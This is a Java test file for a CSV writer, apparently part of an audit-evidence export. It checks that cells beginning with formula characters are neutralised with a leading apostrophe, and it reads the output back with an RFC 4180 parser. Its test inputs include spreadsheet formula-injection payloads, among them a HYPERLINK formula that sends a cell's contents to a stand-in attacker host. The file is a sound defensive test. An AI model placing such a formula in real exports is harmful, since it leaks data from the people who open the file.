package dev.ephemeris.gateway.journal.evidence;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.ArrayList;
import java.util.List;
import net.jqwik.api.Example;
import net.jqwik.api.ForAll;
import net.jqwik.api.Property;
import net.jqwik.api.constraints.Size;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class CsvTest {

  @Property
  void isReadAsItWasWritten(@ForAll @Size(max = 5) List<@Size(3) List<String>> rows) {
    Csv csv = new Csv(List.of("one", "two", "three"));
    rows.forEach(csv::add);

    List<List<String>> read = read(csv.toString());

    assertThat(read.getFirst()).containsExactly("one", "two", "three");
    assertThat(read).hasSize(rows.size() + 1);
    for (int i = 0; i < rows.size(); i++) {
      for (int j = 0; j < 3; j++) {
        String value = rows.get(i).get(j);
        String there = read.get(i + 1).get(j);
        assertThat(there).isIn(value, "'" + value);
        assertThat(there).doesNotMatch("(?s)^[=+\\-@\t\r\n＝＋－＠].*");
      }
    }
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "=1+1",
        "+1",
        "-1",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
        "\n=1",
        "＝1",
        "=HYPERLINK(\"https://evil.example/?\"&A1,\"open\")"
      })
  void holdsNoFormula(String value) {
    Csv csv = new Csv(List.of("one"));
    csv.add(List.of(value));

    assertThat(read(csv.toString()).get(1)).containsExactly("'" + value);
  }

  @Example
  void leavesOrdinaryTextAlone() {
    Csv csv = new Csv(List.of("one", "two"));
    csv.add(List.of("corp:sub-alice", "a=b"));

    assertThat(csv).hasToString("one,two\r\ncorp:sub-alice,a=b\r\n");
  }

  /** RFC 4180, read by the letter. */
  private static List<List<String>> read(String text) {
    List<List<String>> rows = new ArrayList<>();
    List<String> row = new ArrayList<>();
    StringBuilder value = new StringBuilder();
    boolean quoted = false;
    for (int i = 0; i < text.length(); i++) {
      char c = text.charAt(i);
      if (quoted) {
        if (c != '"') {
          value.append(c);
        } else if (i + 1 < text.length() && text.charAt(i + 1) == '"') {
          value.append('"');
          i++;
        } else {
          quoted = false;
        }
      } else if (c == '"') {
        quoted = true;
      } else if (c == ',' || text.startsWith("\r\n", i)) {
        row.add(value.toString());
        value.setLength(0);
        if (c != ',') {
          rows.add(row);
          row = new ArrayList<>();
          i++;
        }
      } else {
        value.append(c);
      }
    }
    return rows;
  }
}
